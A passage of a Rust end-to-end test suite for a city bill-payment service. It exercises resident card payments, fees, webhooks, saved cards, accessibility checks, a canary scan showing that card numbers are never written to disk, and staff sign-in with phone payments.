//! A resident pays a demo bill end to end through the real binary: the
//! portal and the pay service on two ports (two origins), the embedded
//! acquirer simulator behind pay. HTTP only; the browser version is in the
//! portal's browser tests.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use civicpay_testkit::free_port;
use civicpay_testkit::resident::{Card, Jar, Resident, between, form_token, location, text};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

struct Running {
    child: Child,
    dir: std::path::PathBuf,
}

impl Running {
    /// Stops the process; its folder stays until the value is dropped.
    fn stop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        // KEEP_E2E_FOLDER=1 keeps a failed run's folder (logs, databases).
        if std::env::var_os("KEEP_E2E_FOLDER").is_some() {
            eprintln!("kept {}", self.dir.display());
            return;
        }
        let _ = std::fs::remove_dir_all(&self.dir);
        if let Some(name) = self.dir.file_name() {
            let keys = format!("{}-vault-keys", name.to_string_lossy());
            let _ = std::fs::remove_dir_all(self.dir.with_file_name(keys));
        }
    }
}

async fn get(client: &reqwest::Client, jar: &mut Jar, url: &str) -> reqwest::Response {
    let response = client
        .get(url)
        .header("cookie", jar.header())
        .send()
        .await
        .unwrap();
    jar.take(&response);
    response
}

async fn post(
    client: &reqwest::Client,
    jar: &mut Jar,
    url: &str,
    form: &[(&str, &str)],
) -> reqwest::Response {
    let body = civicpay_testkit::page::form_urlencoded(form);
    let response = client
        .post(url)
        .header("cookie", jar.header())
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
        .send()
        .await
        .unwrap();
    jar.take(&response);
    response
}

/// Starts `civicpay demo` on two free ports; returns the portal and pay
/// base URLs once the portal answers.
async fn start_demo(name: &str) -> (Running, String, String) {
    start_demo_logging(name, None, &[]).await
}

/// As [`start_demo`], with the process's log written to `log` at `level`
/// and extra environment (e.g. database URLs).
async fn start_demo_logging(
    name: &str,
    log: Option<(&str, &str)>,
    env: &[(&str, &str)],
) -> (Running, String, String) {
    let dir = std::env::temp_dir().join(format!("civicpay-e2e-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let (level, stderr) = match log {
        Some((level, file)) => (
            level.to_owned(),
            Stdio::from(std::fs::File::create(dir.join(file)).unwrap()),
        ),
        None => ("warn".to_owned(), Stdio::null()),
    };
    let (portal_port, pay_port) = (free_port(), free_port());
    let child = Command::new(env!("CARGO_BIN_EXE_civicpay"))
        .args([
            "demo",
            "--portal-addr",
            &format!("127.0.0.1:{portal_port}"),
            "--pay-addr",
            &format!("127.0.0.1:{pay_port}"),
        ])
        .env("CIVICPAY_DATA_DIR", &dir)
        .env("CIVICPAY_LOG", level)
        .env_remove("DATABASE_URL")
        .envs(env.iter().copied())
        .stdout(Stdio::null())
        .stderr(stderr)
        .spawn()
        .unwrap();
    let running = Running { child, dir };
    let portal = format!("http://127.0.0.1:{portal_port}");
    let pay = format!("http://127.0.0.1:{pay_port}");
    // Both services, however slow a loaded machine is to seed the demo.
    for base in [&portal, &pay] {
        let mut up = false;
        for _ in 0..600 {
            if reqwest::get(format!("{base}/healthz")).await.is_ok() {
                up = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert!(up, "{base} did not start within a minute");
    }
    (running, portal, pay)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resident_pays_a_demo_bill_and_the_city_sees_it_paid_once() {
    let (_running, portal, pay) = start_demo("http").await;
    let mut resident = Resident::new(&portal, &pay);
    // The demo's first parking citation (deterministic seed).
    let (path, reference, verification) = ("/springfield/pay/parking", "PK-2026-004000", "HEG3375");
    let bill_page = resident.look_up(path, reference, verification).await;
    assert!(bill_page.contains("Not paid"), "{bill_page}");
    let start = resident.choose_to_pay(&bill_page).await;
    assert!(
        start.starts_with(&format!("{pay}/card/start/")),
        "card entry is on pay's origin: {start}"
    );
    let card_page = resident.open_card_page(&start).await;
    assert!(!card_page.html.contains("<script"));
    let paid = resident.pay_with_card(&card_page, Card::VISA).await;
    assert_eq!(paid.status(), 303);
    let return_url = location(&paid);
    assert!(return_url.starts_with(&portal));

    let receipt = text(resident.get(&return_url).await).await;
    assert!(receipt.contains("Payment received"), "{receipt}");
    assert!(receipt.contains("Visa •••• 4242"));
    assert!(receipt.contains(reference));
    // Coming back again (reload, back button) applies nothing twice.
    let again = text(resident.get(&return_url).await).await;
    assert!(again.contains("Payment received"));
    let after = resident.look_up(path, reference, verification).await;
    assert!(
        after.contains("class=\"tag tag--paid\""),
        "the bill shows as paid"
    );
    let total = between(
        &after,
        "<tr><th scope=\"row\">Total</th><td class=\"amount\">",
        "<",
    );
    let paid_so_far = between(
        &after,
        "<tr><th scope=\"row\">Paid so far</th><td class=\"amount\">",
        "<",
    );
    assert_eq!(total, paid_so_far, "paid exactly once");
    assert!(after.contains("There is nothing to pay on this bill."));
    let outbox = _running.dir.join("outbox");
    let mails: Vec<_> = std::fs::read_dir(&outbox)
        .map(|d| d.flatten().collect())
        .unwrap_or_default();
    assert_eq!(
        mails.len(),
        1,
        "one receipt for one payment, however often the result was seen"
    );
    let mail = std::fs::read_to_string(mails[0].path()).unwrap();
    assert!(
        mail.contains("Subject: Payment received") && mail.contains(reference),
        "{mail}"
    );
}

/// Springfield's property tax carries a 2.35 % web fee (at least $1.00)
/// and may be paid in parts of at least $25.00. The bill page states the
/// fee and the total before the card page. A resident pays $100.00 of it,
/// then the rest: each card page, receipt and e-mail shows amount + fee =
/// total for that part, the bill is credited its parts (never the fees),
/// and is paid once the second lands.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resident_pays_a_bill_with_a_convenience_fee_in_two_parts() {
    let (running, portal, pay) = start_demo("fee").await;
    let mut resident = Resident::new(&portal, &pay);
    // The demo's first property-tax bill (deterministic seed).
    let (path, reference, verification) =
        ("/springfield/pay/property-tax", "4691-000-765", "62707");
    use civicpay_testkit::amounts::{cents, dollars, springfield_web_fee as fee_on};
    let bill_page = resident.look_up(path, reference, verification).await;
    let balance = between(
        &bill_page,
        "<tr><th scope=\"row\">Total</th><td class=\"amount\">",
        "<",
    )
    .to_owned();
    let notice = between(&bill_page, "id=\"fee-1\">", "</p>");
    let fee = between(notice, "A service fee of ", " applies").to_owned();
    let total = between(notice, "You will pay ", ". ").to_owned();
    assert_eq!(cents(&fee), fee_on(cents(&balance)), "{notice}");
    assert_eq!(cents(&total), cents(&balance) + fee_on(cents(&balance)));
    assert!(bill_page.contains("Continue to payment"), "{bill_page}");

    let mut breakdowns = Vec::new();
    let mut credited = 0;
    for (typed, amount) in [(Some("100.00"), 10_000), (None, cents(&balance) - 10_000)] {
        let page = resident.look_up(path, reference, verification).await;
        let start = resident.choose_to_pay_part(&page, typed).await;
        let card_page = resident.open_card_page(&start).await;
        let breakdown = format!(
            "Amount {} + service fee {} = {}",
            dollars(amount),
            dollars(fee_on(amount)),
            dollars(amount + fee_on(amount))
        );
        assert!(card_page.html.contains(&breakdown), "{}", card_page.html);
        let card = Card {
            email: "tax@example.org",
            ..Card::VISA
        };
        let paid = resident.pay_with_card(&card_page, card).await;
        assert_eq!(paid.status(), 303);
        let receipt = text(resident.get(&location(&paid)).await).await;
        assert!(receipt.contains("Payment received"), "{receipt}");
        assert!(receipt.contains(&breakdown), "{receipt}");
        let after = resident.look_up(path, reference, verification).await;
        let paid_so_far = between(
            &after,
            "<tr><th scope=\"row\">Paid so far</th><td class=\"amount\">",
            "<",
        );
        credited += amount;
        assert_eq!(
            cents(paid_so_far),
            credited,
            "the bill is credited its parts, not the fees"
        );
        // The stylesheet names tag--paid on every page: look for the tag.
        assert_eq!(
            after.contains("class=\"tag tag--paid\""),
            credited == cents(&balance),
            "{after}"
        );
        breakdowns.push(breakdown);
    }

    let mails: Vec<String> = std::fs::read_dir(running.dir.join("outbox"))
        .unwrap()
        .flatten()
        .map(|m| std::fs::read_to_string(m.path()).unwrap())
        .collect();
    // Quoted-printable bodies write '=' as "=3D" and fold long lines.
    let decoded = |mail: &str| mail.replace("=\r\n", "").replace("=3D", "=");
    for breakdown in &breakdowns {
        assert!(
            mails.iter().any(|m| decoded(m).contains(breakdown)),
            "{breakdown}: {mails:?}"
        );
    }
}

/// The same in a real browser, with axe-core on every page: the card page,
/// a decline, and the city's receipt after pay's redirect (which Chromium
/// checks against the card page's `form-action`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resident_pays_in_a_real_browser_and_every_page_is_accessible() {
    use civicpay_testkit::{
        Locator, assert_accessible, click_and_wait, enabled, start_browser, text_of,
    };
    if !enabled() {
        eprintln!(
            "browser tests skipped: set CIVICPAY_BROWSER_TESTS=1 (needs chromium and chromium-driver)"
        );
        return;
    }
    let (_running, portal, pay) = start_demo("browser").await;
    let (_driver, client, _profile) = start_browser().await;
    // Property tax may be paid in parts: the bill page with its amount
    // field, and with an amount refused, passes axe too.
    client
        .goto(&format!("{portal}/springfield/pay/property-tax"))
        .await
        .unwrap();
    for (id, value) in [("reference", "4691-000-765"), ("verification", "62707")] {
        let field = client.find(Locator::Id(id)).await.unwrap();
        field.send_keys(value).await.unwrap();
    }
    click_and_wait(&client, Locator::Css("button[type=submit]")).await;
    assert!(text_of(&client, "main").await.contains("Amount to pay"));
    assert_accessible(&client, "bill page with an amount to choose").await;
    let amount = client.find(Locator::Id("amount-1")).await.unwrap();
    amount.clear().await.unwrap();
    amount.send_keys("10.00").await.unwrap();
    click_and_wait(&client, Locator::Css(".bill form button")).await;
    assert!(
        text_of(&client, ".error-summary")
            .await
            .contains("The amount must be at least $25.00")
    );
    assert_accessible(&client, "bill page with an amount refused").await;

    client
        .goto(&format!("{portal}/springfield/pay/permits"))
        .await
        .unwrap();
    client
        .find(Locator::Id("reference"))
        .await
        .unwrap()
        .send_keys("PER-26-00300")
        .await
        .unwrap();
    client
        .find(Locator::Id("verification"))
        .await
        .unwrap()
        .send_keys("cote")
        .await
        .unwrap();
    click_and_wait(&client, Locator::Css("button[type=submit]")).await;
    assert!(text_of(&client, "main").await.contains("PER-26-00300"));
    click_and_wait(&client, Locator::Css(".bill form button")).await;
    let url = client.current_url().await.unwrap().to_string();
    assert!(
        url.starts_with(&format!("{pay}/card/")),
        "the card page is on pay's origin: {url}"
    );
    assert_eq!(text_of(&client, "h1").await, "Enter your card details");
    assert_accessible(&client, "card page").await;

    let fill = |number: &'static str| {
        let client = client.clone();
        async move {
            for (id, value) in [
                ("cardholder-name", "Ana Diaz"),
                ("card-number", number),
                ("expiry", "12/30"),
                ("security-code", "123"),
                ("postal-code", "62704"),
            ] {
                let field = client.find(Locator::Id(id)).await.unwrap();
                field.clear().await.unwrap();
                field.send_keys(value).await.unwrap();
            }
        }
    };
    fill("4000 0000 0000 0002").await;
    click_and_wait(&client, Locator::Css("button[type=submit]")).await;
    assert!(
        text_of(&client, "main")
            .await
            .contains("Your bank declined the payment")
    );
    assert_accessible(&client, "card page after a decline").await;

    fill("").await;
    click_and_wait(&client, Locator::Css("button[type=submit]")).await;
    assert!(
        text_of(&client, ".error-summary")
            .await
            .contains("Enter the card number")
    );
    assert_accessible(&client, "card page with errors").await;

    fill("4242 4242 4242 4242").await;
    click_and_wait(&client, Locator::Css("button[type=submit]")).await;
    let url = client.current_url().await.unwrap().to_string();
    assert!(
        url.starts_with(&format!("{portal}/springfield/payments/")),
        "back on the city's site: {url}"
    );
    assert!(text_of(&client, "main").await.contains("Payment received"));
    assert!(text_of(&client, "main").await.contains("Visa •••• 4242"));
    assert_accessible(&client, "receipt").await;
    client.close().await.unwrap();
}

/// A payment created through pay's API as a city system would, and its
/// card page opened like a browser: the cookies, the page's URL and HTML.
async fn api_card_page(
    client: &reqwest::Client,
    pay: &str,
    key: &str,
    body: serde_json::Value,
) -> (Jar, String, String) {
    let created: serde_json::Value = client
        .post(format!("{pay}/v1/payments"))
        .bearer_auth(key)
        .json(&body)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let mut jar = Jar::default();
    let next_url = created["_links"]["next_url"]["href"].as_str().unwrap();
    let started = get(client, &mut jar, next_url).await;
    let card_url = format!("{pay}{}", started.headers()["location"].to_str().unwrap());
    let card_page = get(client, &mut jar, &card_url).await.text().await.unwrap();
    (jar, card_url, card_page)
}

/// A pay API key for Springfield, from the CLI, as a city system gets one.
/// The CLI shares the running demo's configuration (its portal address
/// decides the cities' allowed return origins).
fn pay_api_key(dir: &std::path::Path, portal: &str, env: &[(&str, &str)]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_civicpay"))
        .args([
            "api-key",
            "create",
            "--service",
            "pay",
            "--tenant",
            "springfield",
        ])
        .env("CIVICPAY_DATA_DIR", dir)
        .env("CIVICPAY_PORTAL_PUBLIC_URL", portal)
        .env_remove("DATABASE_URL")
        .envs(env.iter().copied())
        .env("CIVICPAY_LOG", "warn")
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

/// A signed-in resident's payment offers to save the card: the offer is
/// accessible, and ticking it saves the card (brand and last four only
/// ever leave pay).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn saving_a_card_in_a_real_browser_is_accessible() {
    use civicpay_testkit::{Locator, assert_accessible, click_and_wait, enabled, start_browser};
    if !enabled() {
        eprintln!("browser tests skipped: set CIVICPAY_BROWSER_TESTS=1");
        return;
    }
    let (running, portal, pay) = start_demo("browser-save").await;
    let key = pay_api_key(&running.dir, &portal, &[]);
    let http = reqwest::Client::new();
    let created: serde_json::Value = http
        .post(format!("{pay}/v1/payments"))
        .bearer_auth(&key)
        .json(&serde_json::json!({"amount": 1800, "currency": "USD", "reference": "SAVE-2", "description": "Water bill",
                                  "return_url": format!("{portal}/"), "customer": "resident-2", "language": "fr"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let (_driver, client, _profile) = start_browser().await;
    client
        .goto(created["_links"]["next_url"]["href"].as_str().unwrap())
        .await
        .unwrap();
    let label = client
        .find(Locator::Css("label[for=save-card]"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(
        label,
        "Enregistrer cette carte pour mes prochains paiements"
    );
    assert_accessible(&client, "card page with the offer to save the card").await;
    for (id, value) in [
        ("cardholder-name", "Ana Diaz"),
        ("card-number", "4242 4242 4242 4242"),
        ("expiry", "12/30"),
        ("security-code", "123"),
        ("postal-code", "62704"),
    ] {
        client
            .find(Locator::Id(id))
            .await
            .unwrap()
            .send_keys(value)
            .await
            .unwrap();
    }
    client
        .find(Locator::Css("label[for=save-card]"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    click_and_wait(&client, Locator::Css("button[type=submit]")).await;
    let url = client.current_url().await.unwrap().to_string();
    assert!(url.starts_with(&portal), "back on the city's site: {url}");
    // The next payment offers the saved card, asking its security code.
    let again: serde_json::Value = http
        .post(format!("{pay}/v1/payments"))
        .bearer_auth(&key)
        .json(&serde_json::json!({"amount": 2400, "currency": "USD", "reference": "SAVE-3", "description": "Water bill",
                                  "return_url": format!("{portal}/"), "customer": "resident-2", "language": "fr"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    client
        .goto(again["_links"]["next_url"]["href"].as_str().unwrap())
        .await
        .unwrap();
    assert!(
        client
            .find(Locator::Css("input[name=saved_card]"))
            .await
            .is_ok()
    );
    assert_accessible(&client, "card page offering a saved card").await;
    client
        .find(Locator::Id("saved-security-code"))
        .await
        .unwrap()
        .send_keys("123")
        .await
        .unwrap();
    click_and_wait(
        &client,
        Locator::Css("form[action$='/saved'] button[type=submit]"),
    )
    .await;
    let url = client.current_url().await.unwrap().to_string();
    assert!(url.starts_with(&portal), "paid with the saved card: {url}");
    client.close().await.unwrap();
    let listed: serde_json::Value = http
        .get(format!("{pay}/v1/customers/resident-2/cards"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(listed["cards"][0]["last4"], "4242", "{listed}");
}

/// The resident closes the tab after paying: pay's signed webhook still
/// tells the portal, and the bill is paid without the return visit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bill_is_paid_even_if_the_browser_never_comes_back() {
    let (_running, portal, pay) = start_demo("webhook").await;
    let mut resident = Resident::new(&portal, &pay);
    let (path, reference, verification) =
        ("/lac-vert/pay/stationnement", "PK-2026-004000", "KPU2067");
    let card = Card {
        name: "Léa Roy",
        number: "5555 5555 5555 4444",
        postal_code: "K0A 1A0",
        ..Card::VISA
    };
    let paid = resident.pay_bill(path, reference, verification, card).await;
    assert_eq!(paid.status(), 303);
    // The redirect back to the portal is never followed. (At most 18 more
    // look-ups: the portal's limit is 20 per address per 10 minutes.)
    for _ in 0..18 {
        let page = resident.look_up(path, reference, verification).await;
        if page.contains("class=\"tag tag--paid\"") {
            return;
        }
        tokio::time::sleep(Duration::from_millis(700)).await;
    }
    panic!("the webhook never marked the bill paid");
}

/// Pays (or tries to pay) one demo bill with `card` and `code`, without
/// following the redirect back; returns pay's answer to the card post.
async fn try_card(
    (portal, pay): (&str, &str),
    (path, reference, verification): (&str, &str, &str),
    card: &str,
    code: &str,
) -> reqwest::StatusCode {
    let card = Card {
        name: "Canary Test",
        number: card,
        security_code: code,
        email: "canary@example.org",
        ..Card::VISA
    };
    Resident::new(portal, pay)
        .pay_bill(path, reference, verification, card)
        .await
        .status()
}

fn occurrences(dir: &std::path::Path, needle: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return found;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(occurrences(&path, needle));
        } else if let Ok(bytes) = std::fs::read(&path)
            && bytes.windows(needle.len()).any(|w| w == needle)
        {
            found.push(path.display().to_string());
        }
    }
    found
}

/// Invariant 1, the canary: approved and declined payments with trace-level
/// logging, then every file the processes wrote (both databases with their
/// WAL, the simulator's store, secrets, the log) is searched for the card
/// numbers, spaced or not, and for the security codes beside their field
/// names. Nothing may be found, and a copy planted on purpose must be.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_file_any_process_wrote_holds_a_card_number_or_security_code() {
    canary("canary-sqlite", &[]).await;
}

/// The same with both services on PostgreSQL: what civicpay itself writes
/// (logs, outbox, the simulator's store, secrets) must stay clean there too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_canary_holds_on_postgres_too() {
    on_postgres(async |env| canary("canary-postgres", env).await).await;
}

/// Runs `test` with the portal and pay on fresh PostgreSQL databases (the
/// environment to start them with), or says it was skipped.
async fn on_postgres(test: impl AsyncFnOnce(&[(&str, &str)])) {
    use civicpay_store::testing::{Schema, TestDb};
    let (Some(portal_db), Some(pay_db)) = (
        TestDb::postgres_with(Schema::Portal).await.unwrap(),
        TestDb::postgres_with(Schema::Pay).await.unwrap(),
    ) else {
        eprintln!("skipped: set CIVICPAY_TEST_POSTGRES_URL to run on PostgreSQL");
        return;
    };
    test(&[
        ("DATABASE_URL", portal_db.url()),
        ("CIVICPAY_PAY_DATABASE_URL", pay_db.url()),
    ])
    .await;
    portal_db.finish().await;
    pay_db.finish().await;
}

async fn canary(name: &str, env: &[(&str, &str)]) {
    let (running, portal, pay) =
        start_demo_logging(name, Some(("trace", "civicpay.log")), env).await;
    let cards = [
        (
            "/springfield/pay/water",
            "1000-61166",
            "62703",
            "4242 4242 4242 4242",
            "917",
        ),
        (
            "/springfield/pay/parking",
            "PK-2026-004000",
            "HEG3375",
            "4000 0000 0000 0002",
            "863",
        ),
        (
            "/springfield/pay/permits",
            "PER-26-00300",
            "Côté",
            "3782 822463 10005",
            "7391",
        ),
    ];
    for (path, reference, verification, card, code) in cards {
        let status = try_card((&portal, &pay), (path, reference, verification), card, code).await;
        assert!(
            status.is_redirection() || status.is_success(),
            "{card}: {status}"
        );
    }
    // A phone (MOTO) payment, made through the pay API as a city system
    // would, with a pay key from the CLI: its card fields are masked.
    let key = pay_api_key(&running.dir, &portal, env);
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    // Springfield's city file lists its website as a return origin: pay
    // takes a payment that returns there, and refuses one that returns
    // anywhere else, naming the origin.
    for (return_url, status) in [
        ("https://www.springfield.example/thanks", 201),
        ("https://elsewhere.example/thanks", 422),
    ] {
        let answer = client
            .post(format!("{pay}/v1/payments"))
            .bearer_auth(&key)
            .json(
                &serde_json::json!({"amount": 1200, "currency": "USD", "reference": "ORIGIN-1",
                                      "description": "Return origin", "return_url": return_url}),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status().as_u16(), status, "{return_url}");
        if status == 422 {
            let body = answer.text().await.unwrap();
            assert!(body.contains("https://elsewhere.example"), "{body}");
        }
    }
    let (mut jar, card_url, card_page) = api_card_page(
        &client,
        &pay,
        &key,
        serde_json::json!({"amount": 2500, "currency": "USD", "reference": "MOTO-1", "description": "Phone payment",
                           "return_url": format!("{portal}/"), "channel": "moto"}),
    )
    .await;
    assert!(
        card_page.contains("type=\"password\" id=\"card-number\""),
        "MOTO card numbers are masked on screen"
    );
    assert!(card_page.contains("type=\"password\" id=\"security-code\""));
    let card_token = form_token(&card_page);
    let moto = post(
        &client,
        &mut jar,
        &card_url,
        &[
            ("form_token", &card_token),
            ("cardholder_name", "Phone Caller"),
            ("card_number", "5555 5555 5555 4444"),
            ("expiry", "12/30"),
            ("security_code", "482"),
            ("postal_code", "62704"),
            ("email", ""),
        ],
    )
    .await;
    assert_eq!(moto.status(), 303);

    // A signed-in resident saves a card: it goes into the vault, sealed.
    let (mut jar, card_url, card_page) = api_card_page(
        &client,
        &pay,
        &key,
        serde_json::json!({"amount": 1800, "currency": "USD", "reference": "SAVE-1", "description": "Water bill",
                           "return_url": format!("{portal}/"), "customer": "resident-1"}),
    )
    .await;
    assert!(card_page.contains("name=\"save_card\""));
    let card_token = form_token(&card_page);
    let saved = post(
        &client,
        &mut jar,
        &card_url,
        &[
            ("form_token", &card_token),
            ("cardholder_name", "Ana Diaz"),
            ("card_number", "4111 1111 1111 1111"),
            ("expiry", "12/30"),
            ("security_code", "315"),
            ("postal_code", "62704"),
            ("email", ""),
            ("save_card", "yes"),
        ],
    )
    .await;
    assert_eq!(saved.status(), 303);
    let listed: serde_json::Value = client
        .get(format!("{pay}/v1/customers/resident-1/cards"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(listed["cards"][0]["last4"], "1111", "{listed}");

    // Let webhooks and logs settle, then stop the processes so every buffer
    // and WAL page is on disk.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let mut running = running;
    running.stop();
    let dir = running.dir.clone();
    let log = std::fs::read_to_string(dir.join("civicpay.log")).unwrap_or_default();
    assert!(
        log.contains("TRACE") || log.contains("DEBUG"),
        "the log really was verbose"
    );
    let moto_card = ("", "", "", "5555 5555 5555 4444", "482");
    let saved_card = ("", "", "", "4111 1111 1111 1111", "315");
    let typed: Vec<_> = cards
        .into_iter()
        .chain([moto_card, saved_card])
        .map(|(_, _, _, card, code)| (card, code))
        .collect();
    assert_no_card_data(&dir, &typed);
}

/// No file under `dir` holds any of these card numbers (spaced or not) or
/// security codes beside their field names; and the scan does find a copy
/// planted on purpose.
fn assert_no_card_data(dir: &std::path::Path, typed: &[(&str, &str)]) {
    for (card, code) in typed {
        let compact = card.replace(' ', "");
        for needle in [
            compact.as_str(),
            card,
            &format!("security_code={code}"),
            &format!("\"security_code\":\"{code}\""),
        ] {
            assert_eq!(
                occurrences(dir, needle.as_bytes()),
                Vec::<String>::new(),
                "{needle} was written"
            );
        }
    }
    std::fs::write(dir.join("planted"), b"x 4242424242424242 x").unwrap();
    assert_eq!(
        occurrences(dir, b"4242424242424242").len(),
        1,
        "the scan finds a planted copy"
    );
}

fn unix_now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

/// One member of staff with their own browser (cookie jar).
struct StaffMember {
    jar: Jar,
    email: String,
}

const STAFF_PASSWORD: &str = "maple lantern quietly forty herons";

/// Follows an enrolment link, sets the password and authenticator, then
/// signs in with both factors.
async fn enrol_and_sign_in(
    client: &reqwest::Client,
    portal: &str,
    link_path: &str,
    email: &str,
) -> StaffMember {
    use civicpay_identity::TotpSecret;
    let mut jar = Jar::default();
    let page = get(client, &mut jar, &format!("{portal}{link_path}"))
        .await
        .text()
        .await
        .unwrap();
    assert!(page.contains(email), "{page}");
    let secret =
        TotpSecret::from_base32(between(&page, "<code class=\"secret\">", "</code>")).unwrap();
    let token = form_token(&page);
    let enrolled = post(
        client,
        &mut jar,
        &format!("{portal}{link_path}"),
        &[
            ("form_token", &token),
            ("password", STAFF_PASSWORD),
            ("confirm", STAFF_PASSWORD),
            ("code", &secret.code_at(unix_now())),
        ],
    )
    .await;
    assert_eq!(enrolled.status(), 200);
    let sign_in = format!("{portal}/springfield/staff/sign-in");
    let form = get(client, &mut jar, &sign_in).await.text().await.unwrap();
    let token = form_token(&form);
    let first = post(
        client,
        &mut jar,
        &sign_in,
        &[
            ("form_token", &token),
            ("email", email),
            ("password", STAFF_PASSWORD),
        ],
    )
    .await;
    assert_eq!(first.status(), 303, "{email}");
    let second = post(
        client,
        &mut jar,
        &format!("{portal}/springfield/staff/second-factor"),
        &[
            ("form_token", &token),
            ("code", &secret.code_at(unix_now() + 30)),
        ],
    )
    .await;
    assert_eq!(second.status(), 303, "{email}");
    StaffMember {
        jar,
        email: email.to_owned(),
    }
}

impl StaffMember {
    async fn page(&mut self, client: &reqwest::Client, url: &str) -> (reqwest::StatusCode, String) {
        let response = get(client, &mut self.jar, url).await;
        (response.status(), response.text().await.unwrap())
    }

    async fn submit(
        &mut self,
        client: &reqwest::Client,
        url: &str,
        token_from: &str,
        fields: &[(&str, &str)],
    ) -> reqwest::Response {
        let token = form_token(token_from);
        let mut form = vec![("form_token", token.as_str())];
        form.extend_from_slice(fields);
        post(client, &mut self.jar, url, &form).await
    }
}

/// The issue's whole story through the real binary: an administrator made
/// on the command line creates staff, a clerk takes a phone payment on
/// pay's card page, a supervisor's refund above the threshold is approved
/// by another (not by themself), finance downloads the day's
/// reconciliation, the auditor sees all of it, and the chain verifies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn staff_take_a_phone_payment_refund_it_with_approval_and_reconcile() {
    let (running, portal, pay) = start_demo("staff").await;
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let civicpay = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_civicpay"))
            .args(args)
            .env("CIVICPAY_DATA_DIR", &running.dir)
            .env("CIVICPAY_LOG", "warn")
            .env_remove("DATABASE_URL")
            .output()
            .unwrap()
    };
    let created = civicpay(&[
        "staff",
        "create",
        "--tenant",
        "springfield",
        "--email",
        "admin@springfield.gov",
        "--role",
        "administrator",
    ]);
    assert!(
        created.status.success(),
        "{}",
        String::from_utf8_lossy(&created.stderr)
    );
    let link = String::from_utf8(created.stdout).unwrap();
    let link_path = &link.trim()[link.find("/springfield/").unwrap()..];
    let mut admin = enrol_and_sign_in(&client, &portal, link_path, "admin@springfield.gov").await;

    let (_, settings) = admin
        .page(&client, &format!("{portal}/springfield/staff/settings"))
        .await;
    let saved = admin
        .submit(
            &client,
            &format!("{portal}/springfield/staff/settings"),
            &settings,
            &[("threshold", "10.00")],
        )
        .await;
    assert_eq!(saved.status(), 200);

    let mut team = Vec::new();
    for (email, role) in [
        ("clerk@springfield.gov", "clerk"),
        ("sup1@springfield.gov", "supervisor"),
        ("sup2@springfield.gov", "supervisor"),
        ("finance@springfield.gov", "finance"),
        ("auditor@springfield.gov", "auditor"),
    ] {
        let (_, page) = admin
            .page(&client, &format!("{portal}/springfield/staff/team"))
            .await;
        let invited = admin
            .submit(
                &client,
                &format!("{portal}/springfield/staff/team/invite"),
                &page,
                &[("email", email), ("role", role)],
            )
            .await
            .text()
            .await
            .unwrap();
        let link = between(&invited, "<code class=\"secret\">", "</code>").to_owned();
        let path = link[link.find("/springfield/").unwrap()..].to_owned();
        team.push(enrol_and_sign_in(&client, &portal, &path, email).await);
    }
    let [mut clerk, mut sup1, mut sup2, mut finance, mut auditor] = team.try_into().ok().unwrap();

    // The clerk finds the citation and takes the card over the phone.
    let (_, bills) = clerk
        .page(
            &client,
            &format!("{portal}/springfield/staff/bills?q=PK-2026-004000"),
        )
        .await;
    assert!(bills.contains("Take phone payment"), "{bills}");
    let action = format!(
        "/springfield/staff/bills/{}",
        between(&bills, "action=\"/springfield/staff/bills/", "\"")
    );
    let started = clerk
        .submit(&client, &format!("{portal}{action}"), &bills, &[])
        .await;
    assert_eq!(started.status(), 303);
    let next_url = started.headers()["location"].to_str().unwrap().to_owned();
    assert!(
        next_url.starts_with(&pay),
        "the card is keyed on pay's origin, not the portal's: {next_url}"
    );
    let card_start = get(&client, &mut clerk.jar, &next_url).await;
    let card_url = format!(
        "{pay}{}",
        card_start.headers()["location"].to_str().unwrap()
    );
    let card_page = get(&client, &mut clerk.jar, &card_url)
        .await
        .text()
        .await
        .unwrap();
    assert!(
        card_page.contains("type=\"password\""),
        "the card number is masked on a phone payment"
    );
    assert!(!card_page.contains("<script"));
    let charged = clerk
        .submit(
            &client,
            &card_url,
            &card_page,
            &[
                ("cardholder_name", "Cy Roy"),
                ("card_number", "4242 4242 4242 4242"),
                ("expiry", "12/30"),
                ("security_code", "123"),
                ("postal_code", "62704"),
                ("email", ""),
            ],
        )
        .await;
